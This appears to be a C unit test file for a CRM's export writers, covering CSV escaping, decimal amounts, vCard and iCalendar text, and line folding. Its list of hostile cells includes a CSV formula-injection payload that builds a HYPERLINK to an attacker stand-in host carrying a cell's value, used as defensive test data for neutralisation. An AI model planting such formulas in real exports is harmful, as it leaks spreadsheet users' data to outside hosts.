/* test-export-formats.c — the writers of src/io that exports are made of: CSV quoting and
 * formula neutralisation (read back with a strict RFC 4180 reader), decimal amounts, vCard 4.0
 * and iCalendar text exactly as written, and content-line folding that never splits UTF-8. */
#include "config.h"

#include <string.h>

#include "crm-content-line.h"
#include "crm-csv-reader.h"
#include "crm-csv-writer.h"
#include "crm-ical-writer.h"
#include "crm-test-csv.h"
#include "crm-vcard-writer.h"

#include "crm-vcard-reader.h"

#define WHEN ((gint64) 1796000000) /* 2026-11-30T00:53:20Z */

/* ---- CSV writer --------------------------------------------------------------------------- */

static char *
write_cells (CrmCsvWriterFlags flags, const char *const *cells, guint n_cells)
{
  g_autoptr (CrmCsvWriter) writer = crm_csv_writer_new (flags);

  crm_csv_writer_add_row (writer, cells, n_cells);
  return g_strdup (crm_csv_writer_get_buffer (writer)->str);
}

static const char *const hostile_cells[] = {
  "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
  "+1",
  "-2",
  "@SUM(A1:A9)",
  "\tcmd",
  "\rcmd",
  "Plain, with a comma",
};

static void
test_csv_neutralise (void)
{
  g_autofree char *text
      = write_cells (CRM_CSV_WRITER_NONE, hostile_cells, G_N_ELEMENTS (hostile_cells));
  g_autoptr (GPtrArray) records = NULL;
  GPtrArray *cells;

  g_assert_cmpstr (text, ==,
                   "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\","
                   "'+1,'-2,'@SUM(A1:A9),\"'\tcmd\",\"'\rcmd\",\"Plain, with a comma\"\r\n");

  /* Read back: each hostile cell is the same text behind an apostrophe; the plain one as is. */
  records = crm_test_parse_csv (text);
  g_assert_cmpuint (records->len, ==, 1);
  cells = g_ptr_array_index (records, 0);
  g_assert_cmpuint (cells->len, ==, G_N_ELEMENTS (hostile_cells));
  for (guint i = 0; i < G_N_ELEMENTS (hostile_cells) - 1; i++)
    {
      g_autofree char *expected = g_strconcat ("'", hostile_cells[i], NULL);

      g_assert_true (crm_csv_cell_is_formula_like (hostile_cells[i]));
      g_assert_cmpstr (g_ptr_array_index (cells, i), ==, expected);
    }
  g_assert_false (crm_csv_cell_is_formula_like ("Plain"));
  g_assert_false (crm_csv_cell_is_formula_like (" =not first"));
  g_assert_cmpstr (g_ptr_array_index (cells, 6), ==, "Plain, with a comma");
}

static void
test_csv_raw (void)
{
  g_autofree char *text
      = write_cells (CRM_CSV_WRITER_RAW, hostile_cells, G_N_ELEMENTS (hostile_cells));
  g_autoptr (GPtrArray) records = crm_test_parse_csv (text);
  GPtrArray *cells = g_ptr_array_index (records, 0);

  for (guint i = 0; i < G_N_ELEMENTS (hostile_cells); i++)
    g_assert_cmpstr (g_ptr_array_index (cells, i), ==, hostile_cells[i]);
  g_assert_true (g_str_has_prefix (text, "\"=HYPERLINK(\"\"http"));
}

static void
test_csv_round_trip (void)
{
  static const char *const cells[] = {
    "",         "plain",     "a,b",      "say \"hi\"",        "two\r\nlines",
    "lf\nonly", "cr\ronly",  " padded ", "Zoë Ångström 日本", "\"",
    ",",        "trailing,",
  };
  g_autoptr (CrmCsvWriter) writer = crm_csv_writer_new (CRM_CSV_WRITER_RAW);
  g_autoptr (GPtrArray) records = NULL;

  crm_csv_writer_add_row (writer, cells, G_N_ELEMENTS (cells));
  crm_csv_writer_add (writer, NULL);
  crm_csv_writer_add (writer, "x");
  crm_csv_writer_end_row (writer);
  records = crm_test_parse_csv (crm_csv_writer_get_buffer (writer)->str);

  g_assert_cmpuint (records->len, ==, 2);
  for (guint i = 0; i < G_N_ELEMENTS (cells); i++)
    g_assert_cmpstr (crm_test_csv_cell_at (records, 0, i), ==, cells[i]);
  g_assert_cmpstr (crm_test_csv_cell_at (records, 1, 0), ==, "");
  g_assert_cmpstr (crm_test_csv_cell_at (records, 1, 1), ==, "x");
  /* An unquoted cell is left alone: only what needs quotes gets them. */
  g_assert_true (g_str_has_prefix (crm_csv_writer_get_buffer (writer)->str, ",plain,\"a,b\","));
}

/* Rapport's own CSV reader (what import uses) reads every cell back as written, neutralised
 * cells with their apostrophe and raw ones as they were. */
static void
test_csv_reader_round_trip (void)
{
  static const char *const cells[] = {
    "",         "plain",      "a,b",  "say \"hi\"", "two\r\nlines", "lf\nonly",
    " padded ", "Zoë 日本 😀", "=1+2", "-2",         "@SUM(A1)",     "\tx",
  };
  for (guint raw = 0; raw <= 1; raw++)
    {
      g_autoptr (CrmCsvWriter) writer
          = crm_csv_writer_new (raw ? CRM_CSV_WRITER_RAW : CRM_CSV_WRITER_NONE);
      g_autoptr (GBytes) bytes = NULL;
      g_autoptr (CrmCsvReader) reader = NULL;
      g_autoptr (GError) error = NULL;
      const char *const *fields = NULL;
      GString *buffer;
      guint line = 0;

      for (guint row = 0; row < 2; row++)
        crm_csv_writer_add_row (writer, cells, G_N_ELEMENTS (cells));
      buffer = crm_csv_writer_get_buffer (writer);
      bytes = g_bytes_new (buffer->str, buffer->len);
      reader = crm_csv_reader_new (bytes, &error);
      g_assert_no_error (error);
      g_assert_cmpint (crm_csv_reader_get_separator (reader), ==, ',');
      for (guint row = 0; row < 2; row++)
        {
          g_assert_true (crm_csv_reader_next (reader, &fields, &line, &error));
          g_assert_no_error (error);
          g_assert_cmpuint (g_strv_length ((char **) fields), ==, G_N_ELEMENTS (cells));
          for (guint i = 0; i < G_N_ELEMENTS (cells); i++)
            {
              g_autofree char *expected = !raw && crm_csv_cell_is_formula_like (cells[i])
                                              ? g_strconcat ("'", cells[i], NULL)
                                              : g_strdup (cells[i]);

              /* The reader takes a line break in a cell as it is, CRLF included. */
              g_assert_cmpstr (fields[i], ==, expected);
            }
        }
      g_assert_false (crm_csv_reader_next (reader, &fields, &line, &error));
      g_assert_no_error (error);
    }
}

static void
test_csv_decimal (void)
{
  static const struct
  {
    gint64 minor;
    guint digits;
    const char *text;
  } cases[] = {
    { 123450, 2, "1234.50" },
    { 5, 2, "0.05" },
    { -5, 2, "-0.05" },
    { 1200, 0, "1200" },
    { 1234, 3, "1.234" },
    { 0, 2, "0.00" },
    { G_MININT64, 2, "-92233720368547758.08" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *text = crm_csv_format_decimal (cases[i].minor, cases[i].digits);

      g_assert_cmpstr (text, ==, cases[i].text);
    }
}

/* ---- vCard and content lines --------------------------------------------------------------- */

static void
test_vcard_exact (void)
{
  static const char *const tags[] = { "VIP", "a,b", NULL };
  g_autoptr (GString) out = g_string_new (NULL);
  CrmVCardFields card = {
    .uid = "0190f5a2-1111-7000-8000-000000000001",
    .formatted_name = "Ada Lovelace; Countess",
    .family_name = "Countess",
    .given_name = "Ada Lovelace;",
    .email = "ada@example.org",
    .phone = "+44 20 7946 0000",
    .organization = "Analytical Engines, Ltd.",
    .title = "Lead \\ Mathematician",
    /* The 75th octet is the first of an "é": the fold comes one octet earlier. */
    .note = "First line\r\nSecond line long enough to be folded past 75 octets: ééééé",
    .categories = tags,
    .revision = WHEN,
  };

  crm_vcard_write (out, &card);
  g_assert_cmpstr (out->str, ==,
                   "BEGIN:VCARD\r\n"
                   "VERSION:4.0\r\n"
                   "FN:Ada Lovelace\\; Countess\r\n"
                   "N:Countess;Ada Lovelace\\;;;;\r\n"
                   "EMAIL:ada@example.org\r\n"
                   "TEL;VALUE=text:+44 20 7946 0000\r\n"
                   "ORG:Analytical Engines\\, Ltd.\r\n"
                   "TITLE:Lead \\\\ Mathematician\r\n"
                   "NOTE:First line\\nSecond line long enough to be folded past 75 octets: éé\r\n"
                   " ééé\r\n"
                   "CATEGORIES:VIP,a\\,b\r\n"
                   "UID:urn:uuid:0190f5a2-1111-7000-8000-000000000001\r\n"
                   "REV:20261130T005320Z\r\n"
                   "END:VCARD\r\n");
}

/* Rapport's own vCard reader (what import uses) reads a written card back field for field:
 * escaping, folding inside UTF-8 text and the list of categories undone. */
static void
test_vcard_reader_round_trip (void)
{
  static const char *const tags[] = { "VIP", "Board, member", "a;b\\c", NULL };
  g_autoptr (GString) out = g_string_new (NULL);
  g_autoptr (GString) note = g_string_new ("Line one; with, punctuation\nLine two: ");
  g_autoptr (GBytes) bytes = NULL;
  g_autoptr (CrmVCardReader) reader = NULL;
  g_autoptr (CrmVCard) card = NULL;
  g_autoptr (CrmVCard) second = NULL;
  g_autoptr (CrmVCard) end = NULL;
  g_autoptr (GError) error = NULL;
  CrmVCardFields fields = {
    .uid = "0190f5a2-1111-7000-8000-000000000001",
    .formatted_name = "Zoë Ångström-Lovelace; Jr.",
    .family_name = "Ångström-Lovelace; Jr.",
    .given_name = "Zoë",
    .email = "zoe@example.org",
    .phone = "+33 1 23 45 67 89",
    .organization = "Analytical Engines, Ltd.",
    .title = "Head \\ of R&D",
    .categories = tags,
    .revision = WHEN,
  };
  CrmVCardFields minimal = { .formatted_name = "Ada" };

  for (guint i = 0; i < 20; i++)
    g_string_append (note, "é日😀");
  fields.note = note->str;
  crm_vcard_write (out, &fields);
  crm_vcard_write (out, &minimal);

  bytes = g_bytes_new (out->str, out->len);
  reader = crm_vcard_reader_new (bytes, &error);
  g_assert_no_error (error);
  card = crm_vcard_reader_next (reader, &error);
  g_assert_no_error (error);
  g_assert_nonnull (card);
  g_assert_cmpstr (card->version, ==, "4.0");
  g_assert_true (g_str_has_suffix (card->uid, fields.uid));
  g_assert_cmpstr (card->formatted_name, ==, fields.formatted_name);
  g_assert_cmpstr (card->family_name, ==, fields.family_name);
  g_assert_cmpstr (card->given_name, ==, fields.given_name);
  g_assert_cmpstr (card->organization, ==, fields.organization);
  g_assert_cmpstr (card->title, ==, fields.title);
  g_assert_cmpstr (card->note, ==, fields.note);
  g_assert_cmpuint (card->emails->len, ==, 1);
  g_assert_cmpstr (((CrmVCardValue *) g_ptr_array_index (card->emails, 0))->value, ==,
                   fields.email);
  g_assert_cmpuint (card->phones->len, ==, 1);
  g_assert_cmpstr (((CrmVCardValue *) g_ptr_array_index (card->phones, 0))->value, ==,
                   fields.phone);
  g_assert_cmpuint (g_strv_length (card->categories), ==, 3);
  for (guint i = 0; tags[i] != NULL; i++)
    g_assert_cmpstr (card->categories[i], ==, tags[i]);

  second = crm_vcard_reader_next (reader, &error);
  g_assert_no_error (error);
  g_assert_nonnull (second);
  g_assert_cmpstr (second->formatted_name, ==, "Ada");
  g_assert_cmpuint (second->emails->len, ==, 0);
  end = crm_vcard_reader_next (reader, &error);
  g_assert_no_error (error);
  g_assert_null (end);
}

/* Folding never splits a UTF-8 sequence, keeps each line at most 75 octets, and unfolds to the
 * line it came from. */
static void
test_content_line_folding (void)
{
  g_autoptr (GString) line = g_string_new ("NOTE:x");
  g_autoptr (GString) out = g_string_new (NULL);
  g_auto (GStrv) lines = NULL;
  g_autoptr (GString) unfolded = g_string_new (NULL);

  /* Two-, three- and four-octet characters, so cuts fall at every offset inside them. */
  for (guint i = 0; i < 60; i++)
    g_string_append (line, "é日😀");
  crm_content_line_append (out, line->str);

  g_assert_true (g_str_has_suffix (out->str, "\r\n"));
  lines = g_strsplit (out->str, "\r\n", -1);
  for (guint i = 0; lines[i] != NULL && lines[i][0] != '\0'; i++)
    {
      g_assert_cmpuint (strlen (lines[i]), <=, 75);
      g_assert_true (g_utf8_validate (lines[i], -1, NULL));
      if (i > 0)
        g_assert_cmpint (lines[i][0], ==, ' ');
      g_string_append (unfolded, i > 0 ? lines[i] + 1 : lines[i]);
      /* Full lines are full: a cut is at most 3 octets short of the limit. */
      if (lines[i + 1] != NULL && lines[i + 1][0] != '\0')
        g_assert_cmpuint (strlen (lines[i]), >=, 72);
    }
  g_assert_cmpstr (unfolded->str, ==, line->str);
}

/* ---- iCalendar ---------------------------------------------------------------------------- */

static void
test_ical_text (void)
{
  g_autoptr (GString) out = g_string_new (NULL);
  CrmICalComponent todo = {
    .kind = CRM_ICAL_TODO,
    .uid = "u-1",
    .summary = "Call back, today; maybe",
    .stamp = WHEN,
    .due = WHEN + 3600,
    .completed = TRUE,
    .completed_at = WHEN + 60,
  };
  CrmICalComponent event = {
    .kind = CRM_ICAL_EVENT,
    .uid = "u-2",
    .summary = "Demo",
    .stamp = WHEN,
    .start = WHEN,
  };

  crm_ical_write_begin (out, "-//Test//EN");
  crm_ical_write_component (out, &todo);
  crm_ical_write_component (out, &event);
  crm_ical_write_end (out);
  g_assert_cmpstr (out->str, ==,
                   "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Test//EN\r\n"
                   "CALSCALE:GREGORIAN\r\n"
                   "BEGIN:VTODO\r\nUID:u-1\r\nDTSTAMP:20261130T005320Z\r\n"
                   "SUMMARY:Call back\\, today\\; maybe\r\nDUE:20261130T015320Z\r\n"
                   "STATUS:COMPLETED\r\nCOMPLETED:20261130T005420Z\r\nEND:VTODO\r\n"
                   "BEGIN:VEVENT\r\nUID:u-2\r\nDTSTAMP:20261130T005320Z\r\nSUMMARY:Demo\r\n"
                   "DTSTART:20261130T005320Z\r\nDTEND:20261130T015320Z\r\nEND:VEVENT\r\n"
                   "END:VCALENDAR\r\n");
}

int
main (int argc, char **argv)
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/export/csv/neutralise", test_csv_neutralise);
  g_test_add_func ("/export/csv/raw", test_csv_raw);
  g_test_add_func ("/export/csv/round-trip", test_csv_round_trip);
  g_test_add_func ("/export/csv/reader-round-trip", test_csv_reader_round_trip);
  g_test_add_func ("/export/csv/decimal", test_csv_decimal);
  g_test_add_func ("/export/vcard/exact", test_vcard_exact);
  g_test_add_func ("/export/content-line/folding", test_content_line_folding);
  g_test_add_func ("/export/vcard/reader-round-trip", test_vcard_reader_round_trip);
  g_test_add_func ("/export/ical/text", test_ical_text);
  return g_test_run ();
}
